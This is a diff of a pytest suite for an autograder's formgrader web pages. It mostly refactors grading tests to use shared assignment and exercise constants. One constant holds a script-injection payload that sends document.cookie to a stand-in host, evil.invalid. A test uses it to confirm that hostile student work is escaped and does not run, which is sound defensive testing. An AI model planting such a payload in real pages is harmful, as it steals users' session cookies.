@@ -17,12 +17,13 @@ from types import SimpleNamespace
 import nbformat
 import pytest
 from browsing import chromium, opened
+from released import ASSIGNMENT, FIRST
 
-from autograder.authoring.sample import code_cell, fill, read_material, to_bytes
+from autograder.authoring.notebooks import code_cell, fill, to_bytes
+from autograder.authoring.sample import read_material
 from autograder.course import METADATA, Course, project_root
 from autograder.sandbox import isolation
 
-ASSIGNMENT = "01_convolution"
 TOKEN = "only-this-test-knows"
 EXTENSIONS = '{"nbgrader.server_extensions.formgrader": True}'
 RUN = "document.title='ran';fetch('http://evil.invalid/'+document.cookie)"
@@ -199,24 +200,32 @@ def test_the_table_shows_the_grades(formgrader, sample):
     assert status["kofi"] == "needs manual grading" and status["amina"] == "graded"
 
 
+def message_of(course, student):
+    """Read what the check of the first exercise told a student."""
+    path = course / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
+    known = nbformat.read(path, as_version=4).metadata[METADATA]
+    return known["scores"][FIRST]["message"]
+
+
 def test_a_person_grades_and_a_new_grading_keeps_it(formgrader, course, sample, command):
     """By the formgrader's buttons: a score, a comment, autograde, feedback."""
     page = formgrader.page
     formgrader.submission("esra")
     text = page.locator("body").inner_text()
-    assert re.search(r"output_size: \d+ of 52 cases pass\.", text)
-    assert "The last + 1 is missing." in text
-    assert page.locator("#output_size").get_attribute("placeholder") == "0"
-    said = page.locator("#solution_output_size-comment").get_attribute("placeholder")
-    assert "The last + 1 is missing." in said
+    mistake = re.search(r"^  Mistake +(.+?)$", message_of(course, "esra"), re.MULTILINE)[1]
+    assert re.search(rf"{FIRST}: \d+ of \d+ cases pass\.", text)
+    assert mistake in text
+    assert page.locator(f"#{FIRST}").get_attribute("placeholder") == "0"
+    said = page.locator(f"#solution_{FIRST}-comment").get_attribute("placeholder")
+    assert mistake in said
     with page.expect_response(lambda r: "/api/grade/" in r.url and r.request.method == "PUT"):
-        page.locator("#output_size").fill("1.5")
-        page.locator("#output_size").blur()
+        page.locator(f"#{FIRST}").fill("1.5")
+        page.locator(f"#{FIRST}").blur()
     with page.expect_response(lambda r: "/api/comment/" in r.url and r.request.method == "PUT"):
-        page.locator("#solution_output_size-comment").fill("The **idea** is right.")
-        page.locator("#solution_output_size-comment").blur()
+        page.locator(f"#solution_{FIRST}-comment").fill("The **idea** is right.")
+        page.locator(f"#solution_{FIRST}-comment").blur()
     before = grades(course)
-    assert ("esra", "output_size", 0.0, 1.5) in before[0]
+    assert ("esra", FIRST, 0.0, 1.5) in before[0]
     formgrader.press("esra", "autograde")
     assert grades(course) == before
     formgrader.press("esra", "generate-feedback")
@@ -226,7 +235,7 @@ def test_a_person_grades_and_a_new_grading_keeps_it(formgrader, course, sample, 
     assert command("feedback", "--course", course).code == 0
     assert feedback_page(course, "esra").read_bytes() == written
     formgrader.visit(f"manage_submissions/{ASSIGNMENT}")
-    assert table(page, "score")["esra"] == "1.5 / 20"
+    assert table(page, "score")["esra"] == f"1.5 / {sample.rows['esra']['of']:g}"
 
 
 def test_the_button_gives_the_grades_of_the_class_command(formgrader, course):
@@ -244,9 +253,9 @@ def _answer_in_prose(path):
     nbformat.write(notebook, path)
 
 
-def test_hostile_work_does_not_act_in_the_formgrader(formgrader, course, browser):
+def test_hostile_work_does_not_act_in_the_formgrader(formgrader, course, sample, browser):
     """It is graded by the button, looked at, and its feedback page is opened."""
-    page, problems = formgrader.page, formgrader.problems
+    page, problems, of = formgrader.page, formgrader.problems, sample.rows["amina"]["of"]
     formgrader.press("zoe", "autograde")
     path = course / "autograded" / "zoe" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
     known = nbformat.read(path, as_version=4).metadata[METADATA]
@@ -263,4 +272,4 @@ def test_hostile_work_does_not_act_in_the_formgrader(formgrader, course, browser
         assert wrong == [] and shown.title() != "ran"
         assert shown.locator("script").count() == 0
         text = shown.locator("main").inner_text()
-        assert f"<script>{RUN}</script>" in text and "20 of 20 points" in text
+        assert f"<script>{RUN}</script>" in text and f"{of:g} of {of:g} points" in text
